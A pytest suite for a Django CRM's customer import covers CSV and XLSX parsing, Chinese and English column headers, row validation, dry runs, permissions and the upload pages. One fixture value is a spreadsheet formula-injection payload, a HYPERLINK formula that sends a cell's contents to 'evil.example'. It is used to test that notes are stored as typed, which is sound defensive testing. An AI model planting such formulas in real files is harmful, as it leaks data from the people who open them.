import csv
import io
import uuid

import openpyxl
import pytest
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation

from crm import import_views
from crm.history import parse_reason
from crm.importing import Action, ImportFileError, MappingError, read_table
from customers import importing, services
from customers.importing import COLUMNS, run_import
from customers.models import ContactMethod, Customer, Tag
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
MIXED_HEADER = ["name", "phone", "email", "lifecycle_stage", "tags", "owner", "notes"]
MIXED_ROWS = [
    ["Acme Ltd", "138 0013 8000", "Info@Acme.CN", "Active", "VIP", "sales1", FORMULA],
    ["", "139 0013 9000", "", "", "", "", ""],
    ["Bad Phone Co", "12345", "", "", "", "", ""],
    ["Bad Mail Co", "", "not-an-email", "", "", "", ""],
    ["Someday Co", "", "", "someday", "", "", ""],
    ["Not Mine Co", "", "", "", "", "sales2", ""],
    ["Beta GmbH", "", "beta@example.com", "prospect", "", "", ""],
]


@pytest.fixture(autouse=True)
def english(client, settings):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    with translation.override("en"):
        yield


def csv_bytes(rows, encoding="utf-8-sig"):
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode(encoding)


def import_rows(user, rows, *, commit, encoding="utf-8-sig"):
    table = read_table(csv_bytes(rows, encoding))
    return run_import(actor=user, table=table, mapping=COLUMNS.detect(table.headers), commit=commit)


def database_state():
    return (
        Customer.objects.count(),
        ContactMethod.objects.count(),
        Tag.objects.count(),
        Customer.tags.through.objects.count(),
        Customer.history.count(),
    )


def outcome(report):
    return [(row.number, row.action) for row in report.rows]


@pytest.fixture
def vip(db):
    return Tag.objects.create(name="VIP")


# Reading files and mapping columns


def test_a_utf8_csv_with_a_bom_reads_its_header_and_numbers_rows_as_a_spreadsheet_does():
    table = read_table(csv_bytes([["name", "phone"], ["Acme", "1"], ["", ""], ["Beta", "2", "extra"]]))
    assert table.headers == ["name", "phone"]
    assert [(row.number, row.cells) for row in table.rows] == [(2, ["Acme", "1"]), (4, ["Beta", "2"])]


@pytest.mark.parametrize(
    "data",
    [b"", b"\n\n", b"name,phone\n", b"\x00\x01\x02 binary", b"PK\x03\x04 not a workbook", b"\xff\xfe\xff"],
)
def test_files_that_hold_no_table_are_refused_with_a_reason(data):
    with pytest.raises(ImportFileError) as error:
        read_table(data)
    assert str(error.value)


def test_columns_are_recognised_by_english_and_chinese_headers():
    headers = [
        "客户名称", "电话", "手机号", "E-mail", "微信", "QQ", "负责人", "Lifecycle stage", "来源",
        "行业", "规模", "地区", "地址", "标签", "备注", "类型", "Fax", "Name",
    ]  # fmt: skip
    assert COLUMNS.detect(headers) == [
        "name", "phone", "mobile", "email", "wechat", "qq", "owner", "lifecycle_stage", "source",
        "industry", "size", "region", "address", "tags", "notes", "kind", "", "",
    ]  # fmt: skip


def test_overrides_map_skip_and_move_columns():
    headers = ["名称", "联系电话", "电话"]
    detected = COLUMNS.detect(headers)
    assert detected == ["name", "", "phone"]
    assert COLUMNS.override(headers, detected, {"联系电话": "mobile", "名称": ""}) == ["", "mobile", "phone"]
    assert COLUMNS.override(headers, detected, {"联系电话": "phone"}) == ["name", "phone", ""]
    with pytest.raises(MappingError, match="no column"):
        COLUMNS.override(headers, detected, {"传真": "phone"})
    with pytest.raises(MappingError, match="not a field"):
        COLUMNS.override(headers, detected, {"电话": "fax"})
    with pytest.raises(MappingError, match="one column only"):
        COLUMNS.check(["phone", "phone"])


# Good rows, bad rows, dry run and real run


def test_dry_run_reports_every_row_and_writes_nothing(sales1, sales2, vip):
    before = database_state()
    report = import_rows(sales1, [MIXED_HEADER, *MIXED_ROWS], commit=False)
    assert database_state() == before
    assert not report.committed
    assert outcome(report) == [
        (2, Action.CREATE),
        (3, Action.REJECT),
        (4, Action.REJECT),
        (5, Action.REJECT),
        (6, Action.REJECT),
        (7, Action.REJECT),
        (8, Action.CREATE),
    ]
    errors = {row.number: row.errors for row in report.rejected_rows}
    assert errors[3] == ["Name: This field cannot be blank."]
    assert errors[4] == ["Phone: Enter a valid phone number, e.g. 138 0013 8000 or +44 20 7946 0958."]
    assert errors[5] == ["Email: Enter a valid email address."]
    assert errors[6] == [
        "Lifecycle stage: “someday” is not one of the allowed values: Lead, Prospect, Active, Inactive, Lost."
    ]
    assert errors[7] == ["Owner: Only managers may import customers for someone else."]
    assert (report.created, report.updated, report.rejected) == (2, 0, 5)
    assert report.rows[0].name == "Acme Ltd" and report.rows[4].name == "Someday Co"


def test_real_run_saves_the_good_rows_normalised_and_none_of_the_bad(sales1, sales2, vip):
    report = import_rows(sales1, [MIXED_HEADER, *MIXED_ROWS], commit=True)
    assert report.committed and (report.created, report.rejected) == (2, 5)
    assert set(Customer.objects.values_list("name", "owner")) == {
        ("Acme Ltd", sales1.pk),
        ("Beta GmbH", sales1.pk),
    }
    acme = Customer.objects.get(name="Acme Ltd")
    assert report.rows[0].record_id == acme.pk
    assert acme.lifecycle_stage == Customer.Lifecycle.ACTIVE
    assert acme.notes == FORMULA  # stored as typed; exports neutralise formulas
    assert list(acme.tags.all()) == [vip]
    assert set(acme.contact_methods.values_list("type", "value", "is_primary")) == {
        ("phone", "+8613800138000", True),
        ("email", "info@acme.cn", True),
    }
    assert ContactMethod.objects.count() == 3
    assert not ContactMethod.objects.filter(value__in=["+8613900139000", "12345", "not-an-email"]).exists()


def test_a_row_matching_a_visible_customer_by_phone_updates_it(sales1):
    existing = services.create_customer(
        actor=sales1,
        name="Acme Ltd",
        region="上海",
        contact_methods=[{"type": "mobile", "value": "13800138000"}],
    )
    rows = [
        ["name", "phone", "email", "lifecycle_stage", "region"],
        ["", "+86 138-0013-8000", "Sales@Acme.cn", "active", ""],
    ]
    report = import_rows(sales1, rows, commit=True)
    assert outcome(report) == [(2, Action.UPDATE)]
    assert report.rows[0].record_id == existing.pk and report.rows[0].name == "Acme Ltd"
    existing.refresh_from_db()
    assert Customer.objects.count() == 1
    assert (existing.name, existing.region, existing.lifecycle_stage) == ("Acme Ltd", "上海", "active")
    assert set(existing.contact_methods.values_list("type", "value")) == {
        ("mobile", "+8613800138000"),
        ("email", "sales@acme.cn"),
    }


def test_an_update_with_a_bad_value_is_rejected_and_leaves_the_customer_as_it_was(sales1):
    existing = services.create_customer(
        actor=sales1, name="Acme", contact_methods=[{"type": "email", "value": "a@acme.cn"}]
    )
    rows = [["email", "lifecycle_stage", "mobile"], ["a@acme.cn", "active", "12345"]]
    report = import_rows(sales1, rows, commit=True)
    assert report.rows[0].errors == [
        "Mobile: Enter a valid phone number, e.g. 138 0013 8000 or +44 20 7946 0958."
    ]
    existing.refresh_from_db()
    assert existing.lifecycle_stage == Customer.Lifecycle.LEAD
    assert existing.history.count() == 1


def test_customers_the_user_cannot_see_are_not_matched(sales1, sales2):
    theirs = services.create_customer(
        actor=sales2, name="Acme", contact_methods=[{"type": "mobile", "value": "13800138000"}]
    )
    report = import_rows(sales1, [["name", "mobile"], ["Acme", "13800138000"]], commit=True)
    assert outcome(report) == [(2, Action.CREATE)]
    assert report.rows[0].record_id != theirs.pk
    assert Customer.objects.get(pk=report.rows[0].record_id).owner == sales1


def test_a_row_matching_two_customers_is_rejected(manager):
    first = services.create_customer(
        actor=manager, name="A", contact_methods=[{"type": "mobile", "value": "13800138000"}]
    )
    second = services.create_customer(
        actor=manager, name="B", contact_methods=[{"type": "email", "value": "b@b.cn"}]
    )
    report = import_rows(manager, [["mobile", "email"], ["13800138000", "b@b.cn"]], commit=True)
    assert report.rows[0].action == Action.REJECT
    assert f"#{first.pk}" in report.rows[0].errors[0] and f"#{second.pk}" in report.rows[0].errors[0]


def test_later_rows_see_earlier_ones_and_the_dry_run_says_exactly_that(sales1):
    rows = [["name", "mobile", "region"], ["Acme", "13800138000", ""], ["Acme", "138 0013 8000", "北京"]]
    dry_run = import_rows(sales1, rows, commit=False)
    real_run = import_rows(sales1, rows, commit=True)
    assert outcome(dry_run) == outcome(real_run) == [(2, Action.CREATE), (3, Action.UPDATE)]
    assert list(Customer.objects.values_list("name", "region")) == [("Acme", "北京")]


def test_managers_set_any_owner_and_create_tags_once(manager, sales2, vip):
    rows = [
        ["name", "owner", "tags"],
        ["Acme", "sales2", "vip、华东；Key account"],
        ["Beta", "", "华东, VIP"],
        ["Gamma", "nobody", ""],
    ]
    report = import_rows(manager, rows, commit=True)
    assert outcome(report) == [(2, Action.CREATE), (3, Action.CREATE), (4, Action.REJECT)]
    assert report.rows[2].errors == ["Owner: There is no active user “nobody”."]
    assert Customer.objects.get(name="Acme").owner == sales2
    assert Customer.objects.get(name="Beta").owner == manager
    assert sorted(Tag.objects.values_list("name", flat=True)) == ["Key account", "VIP", "华东"]
    assert sorted(t.name for t in Customer.objects.get(name="Acme").tags.all()) == [
        "Key account",
        "VIP",
        "华东",
    ]
    assert sorted(t.name for t in Customer.objects.get(name="Beta").tags.all()) == ["VIP", "华东"]


def test_managers_reassign_the_owner_of_a_matched_customer(manager, sales1, sales2):
    existing = services.create_customer(
        actor=sales1, name="Acme", contact_methods=[{"type": "email", "value": "a@acme.cn"}]
    )
    import_rows(manager, [["email", "owner"], ["a@acme.cn", "sales2"]], commit=True)
    existing.refresh_from_db()
    assert existing.owner == sales2


def test_sales_staff_cannot_add_new_tags(sales1, vip):
    report = import_rows(sales1, [["name", "tags"], ["Acme", "VIP, Brand new"]], commit=True)
    assert report.rows[0].errors == ["Tags: There is no tag “Brand new”, and only managers may add tags."]
    assert not Customer.objects.exists() and Tag.objects.count() == 1


def test_a_gb18030_csv_with_chinese_headers_and_chinese_choice_labels(sales1):
    with translation.override("zh-hans"):
        active, organisation = str(Customer.Lifecycle.ACTIVE.label), str(Customer.Kind.ORGANISATION.label)
    rows = [
        ["客户名称", "手机", "阶段", "类型", "地区"],
        ["华为技术", "13800138000", active, organisation, "广东"],
    ]
    data = csv_bytes(rows, "gb18030")
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")
    table = read_table(data)
    report = run_import(actor=sales1, table=table, mapping=COLUMNS.detect(table.headers), commit=True)
    assert outcome(report) == [(2, Action.CREATE)]
    customer = Customer.objects.get()
    assert (customer.name, customer.lifecycle_stage, customer.kind, customer.region) == (
        "华为技术",
        "active",
        "organisation",
        "广东",
    )


@pytest.mark.parametrize("chunk_size", [2, 500])
def test_a_row_sharing_a_phone_with_an_earlier_row_updates_its_customer_in_any_chunk(
    sales1, monkeypatch, chunk_size
):
    monkeypatch.setattr(importing, "CHUNK_SIZE", chunk_size)
    rows = [
        ["name", "mobile", "email", "region"],
        ["Acme", "13800138000", "", ""],
        ["Beta", "13900139000", "", ""],
        ["", "138 0013 8000", "sales@acme.cn", "北京"],
        ["Gamma", "13700137000", "not-an-email", ""],
        ["Gamma", "137 0013 7000", "", ""],
        ["Acme again", "", "Sales@Acme.cn", ""],
    ]
    dry_run = import_rows(sales1, rows, commit=False)
    assert not Customer.objects.exists()
    real_run = import_rows(sales1, rows, commit=True)
    expected = [
        (2, Action.CREATE),
        (3, Action.CREATE),
        (4, Action.UPDATE),
        (5, Action.REJECT),
        (6, Action.CREATE),
        (7, Action.UPDATE),
    ]
    assert outcome(dry_run) == outcome(real_run) == expected
    acme = Customer.objects.get(pk=real_run.rows[0].record_id)
    assert real_run.rows[2].record_id == real_run.rows[5].record_id == acme.pk
    assert (acme.name, acme.region) == ("Acme again", "北京")
    assert sorted(acme.contact_methods.values_list("type", "value")) == [
        ("email", "sales@acme.cn"),
        ("mobile", "+8613800138000"),
    ]
    assert sorted(Customer.objects.values_list("name", flat=True)) == ["Acme again", "Beta", "Gamma"]


def test_new_customers_are_inserted_a_chunk_at_a_time_with_one_savepoint_each(sales1, monkeypatch):
    monkeypatch.setattr(importing, "CHUNK_SIZE", 10)
    rows = [["name", "mobile", "email"]]
    rows += [[f"Customer {n}", f"139{n:08d}", f"c{n}@example.com"] for n in range(30)]
    with CaptureQueriesContext(connection) as queries:
        report = import_rows(sales1, rows, commit=True)
    assert report.created == 30 and Customer.history.count() == 30
    statements = [query["sql"] for query in queries]
    assert sum(sql.startswith("SAVEPOINT") for sql in statements) == 1 + 3  # the import's, one per chunk
    assert len(statements) <= 30


def test_a_new_tag_is_created_only_when_a_saved_row_names_it(manager, sales1):
    existing = services.create_customer(
        actor=sales1, name="Acme", contact_methods=[{"type": "email", "value": "a@acme.cn"}]
    )
    rows = [
        ["name", "email", "mobile", "tags"],
        ["", "a@acme.cn", "", "Key account"],
        ["Beta", "", "", "华东、key ACCOUNT"],
        ["Bad Phone Co", "", "12345", "Never"],
        ["Long Tag Co", "", "", "x" * 51],
    ]
    report = import_rows(manager, rows, commit=True)
    assert outcome(report) == [(2, Action.UPDATE), (3, Action.CREATE), (4, Action.REJECT), (5, Action.REJECT)]
    assert report.rows[3].errors == ["Tags: A tag has at most 50 characters."]
    assert sorted(Tag.objects.values_list("name", flat=True)) == ["Key account", "华东"]
    assert list(existing.tags.values_list("name", flat=True)) == ["Key account"]
    beta = Customer.objects.get(name="Beta")
    assert sorted(beta.tags.values_list("name", flat=True)) == ["Key account", "华东"]


def test_a_rejected_update_leaves_nothing_for_the_next_row_updating_that_customer(sales1):
    existing = services.create_customer(
        actor=sales1, name="Acme", contact_methods=[{"type": "email", "value": "a@acme.cn"}]
    )
    rows = [
        ["email", "lifecycle_stage", "mobile", "region"],
        ["a@acme.cn", "active", "12345", ""],
        ["a@acme.cn", "", "", "北京"],
        ["a@acme.cn", "someday", "", ""],
        ["a@acme.cn", "", "13800138000", ""],
    ]
    report = import_rows(sales1, rows, commit=True)
    assert outcome(report) == [(2, Action.REJECT), (3, Action.UPDATE), (4, Action.REJECT), (5, Action.UPDATE)]
    existing.refresh_from_db()
    assert (existing.lifecycle_stage, existing.region) == ("lead", "北京")
    assert existing.history.count() == 2
    assert sorted(existing.contact_methods.values_list("type", "value")) == [
        ("email", "a@acme.cn"),
        ("mobile", "+8613800138000"),
    ]


def xlsx_bytes(rows):
    workbook = openpyxl.Workbook()
    sheet = workbook.worksheets[0]
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_an_xlsx_workbook_imports_with_numbers_as_phone_numbers(sales1):
    data = xlsx_bytes(
        [
            ["客户名称", "手机", "邮箱", "规模"],
            ["Acme", 13800138000, "a@acme.cn", "10–49 employees"],
            [None, None, None, None],
            ["Beta", "139 0013 9000", None, "1000+"],
        ]
    )
    table = read_table(data)
    report = run_import(actor=sales1, table=table, mapping=COLUMNS.detect(table.headers), commit=True)
    assert outcome(report) == [(2, Action.CREATE), (4, Action.CREATE)]
    assert set(ContactMethod.objects.values_list("value", flat=True)) == {
        "+8613800138000",
        "a@acme.cn",
        "+8613900139000",
    }
    assert dict(Customer.objects.values_list("name", "size")) == {"Acme": "10-49", "Beta": "1000+"}


def test_a_large_import_costs_queries_by_the_chunk_not_by_the_row(manager, vip):
    """A volume check: rows are checked and inserted a chunk at a time, so four chunks of rows
    cost at most four times the queries of one chunk, whatever a chunk holds."""
    chunk = importing.CHUNK_SIZE

    def import_counted(first, count):
        rows = [["name", "mobile", "email", "lifecycle_stage", "tags", "region"]]
        rows += [
            [f"Customer {n}", f"139{n:08d}", f"c{n}@example.com", "prospect", "VIP、批量", "上海"]
            for n in range(first, first + count)
        ]
        with CaptureQueriesContext(connection) as queries:
            report = import_rows(manager, rows, commit=True)
        assert (report.created, report.rejected) == (count, 0)
        return len(queries)

    one_chunk = import_counted(0, chunk)
    four_chunks = import_counted(chunk, 4 * chunk)
    assert four_chunks <= 4 * one_chunk
    total = 5 * chunk
    assert Customer.objects.count() == Customer.history.filter(history_type="+").count() == total
    # The first chunk's customers were tagged with the tag the import created: their history says so.
    tagged = Customer.history.filter(history_type="~").values_list("history_change_reason", flat=True)
    expected = ("tags_changed", {"tags_added": ["批量"]})
    assert tagged and all(parse_reason(reason) == expected for reason in tagged)
    assert ContactMethod.objects.count() == Customer.tags.through.objects.count() == 2 * total
    assert Tag.objects.count() == 2


# The command


@pytest.fixture
def mixed_csv(tmp_path):
    path = tmp_path / "customers.csv"
    path.write_bytes(csv_bytes([MIXED_HEADER, *MIXED_ROWS]))
    return path


def test_the_command_dry_runs_by_default_and_saves_with_commit(mixed_csv, manager, sales1, sales2, vip):
    before = database_state()
    out = io.StringIO()
    call_command("import_customers", str(mixed_csv), "--user", "manager", stdout=out)
    output = out.getvalue()
    assert database_state() == before
    assert "Column “lifecycle_stage” → Lifecycle stage" in output
    assert "Row 2: Create — Acme Ltd" in output
    assert "Row 4: Reject — Phone: Enter a valid phone number" in output
    assert "3 to create, 0 to update, 4 rejected." in output and "Dry run" in output

    out = io.StringIO()
    call_command("import_customers", str(mixed_csv), "--user", "manager", "--commit", stdout=out)
    assert "3 created, 0 updated, 4 rejected." in out.getvalue()
    assert set(Customer.objects.values_list("name", flat=True)) == {"Acme Ltd", "Beta GmbH", "Not Mine Co"}


def test_the_command_takes_column_overrides(tmp_path, sales1):
    path = tmp_path / "customers.csv"
    path.write_bytes(csv_bytes([["公司", "联系电话"], ["Acme", "13800138000"]]))
    call_command(
        "import_customers",
        str(path),
        "--user",
        "sales1",
        "--commit",
        "--map",
        "公司=name",
        "--map",
        "联系电话=mobile",
    )
    assert list(ContactMethod.objects.values_list("customer__name", "type")) == [("Acme", "mobile")]


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["missing.csv", "--user", "sales1"], "Cannot read"),
        (["garbage.bin", "--user", "sales1"], "neither a CSV"),
        (["customers.csv", "--user", "nobody"], "no active user"),
        (["customers.csv", "--user", "sales1", "--map", "fax"], "COLUMN=FIELD"),
        (["customers.csv", "--user", "sales1", "--map", "传真=phone"], "no column"),
    ],
)
def test_the_command_fails_on_what_it_cannot_use(tmp_path, monkeypatch, sales1, arguments, message):
    (tmp_path / "garbage.bin").write_bytes(b"\x00\x01\x02")
    (tmp_path / "customers.csv").write_bytes(csv_bytes([["name"], ["Acme"]]))
    monkeypatch.chdir(tmp_path)
    with pytest.raises(CommandError, match=message):
        call_command("import_customers", *arguments)
    assert not Customer.objects.exists()


# The web pages


@pytest.fixture
def upload_dir(settings, tmp_path):
    settings.BASE_DIR = tmp_path
    return tmp_path / "var" / "imports"


def upload(client, data, name="customers.csv"):
    return client.post(reverse("customers:import"), {"file": SimpleUploadedFile(name, data)})


def test_sales_staff_get_403_on_the_import_pages(sales_client, upload_dir):
    assert sales_client.get(reverse("customers:import")).status_code == 403
    assert upload(sales_client, csv_bytes([["name"], ["Acme"]])).status_code == 403
    preview = reverse("customers:import_preview", args=[uuid.uuid4()])
    assert sales_client.post(preview, {"commit": ""}).status_code == 403
    assert not upload_dir.exists()


def test_a_manager_uploads_checks_and_imports(manager_client, manager, sales1, sales2, vip, upload_dir):
    assert manager_client.get(reverse("customers:import")).status_code == 200
    response = upload(manager_client, csv_bytes([MIXED_HEADER, *MIXED_ROWS]))
    assert response.status_code == 302
    preview_url = response["Location"]
    assert len(list(upload_dir.iterdir())) == 1

    before = database_state()
    response = manager_client.get(preview_url)
    assert response.status_code == 200
    assert database_state() == before
    report = response.context["report"]
    assert (report.created, report.updated, report.rejected) == (3, 0, 4)
    form = response.context["form"]
    mapping = {name: field.initial for name, field in form.fields.items()}
    assert list(mapping.values()) == MIXED_HEADER
    assert b'data-row="4"' in response.content and "Bad Phone Co" in response.content.decode()

    response = manager_client.post(preview_url, {**mapping, "column_2": "", "preview": ""})
    assert response.context["report"].rows[3].action == Action.CREATE  # the bad email is no longer read
    assert database_state() == before

    response = manager_client.post(preview_url, {**mapping, "commit": ""})
    assert response.status_code == 200
    assert response.context["report"].committed
    assert set(Customer.objects.values_list("name", flat=True)) == {"Acme Ltd", "Beta GmbH", "Not Mine Co"}
    assert not list(upload_dir.iterdir())

    response = manager_client.post(preview_url, {**mapping, "commit": ""})
    assert response.status_code == 302 and response["Location"] == reverse("customers:import")
    assert Customer.objects.count() == 3


def test_the_mapping_form_refuses_two_columns_for_one_field(manager_client, upload_dir):
    preview_url = upload(manager_client, csv_bytes([["name", "电话"], ["Acme", "13800138000"]]))["Location"]
    response = manager_client.post(preview_url, {"column_0": "name", "column_1": "name", "commit": ""})
    assert response.status_code == 200 and response.context["report"] is None
    assert "one column only" in response.context["form"].non_field_errors()[0]
    assert not Customer.objects.exists()


def test_unreadable_and_too_large_uploads_are_refused_at_the_field(manager_client, upload_dir, monkeypatch):
    response = upload(manager_client, b"\x00\x01\x02", name="customers.xls")
    assert "neither a CSV" in response.context["form"].errors["file"][0]
    monkeypatch.setattr(import_views, "MAX_UPLOAD_BYTES", 10)
    response = upload(manager_client, csv_bytes([["name"], ["A long enough name"]]))
    assert "larger than 10 MB" in response.context["form"].errors["file"][0]
    assert not upload_dir.exists() or not list(upload_dir.iterdir())


def test_another_managers_upload_cannot_be_opened(manager_client, upload_dir):
    preview_url = upload(manager_client, csv_bytes([["name"], ["Acme"]]))["Location"]
    manager_client.force_login(UserFactory(username="manager2", groups=[Group.objects.get(name="Managers")]))
    response = manager_client.post(preview_url, {"column_0": "name", "commit": ""})
    assert response.status_code == 302 and response["Location"] == reverse("customers:import")
    assert not Customer.objects.exists()
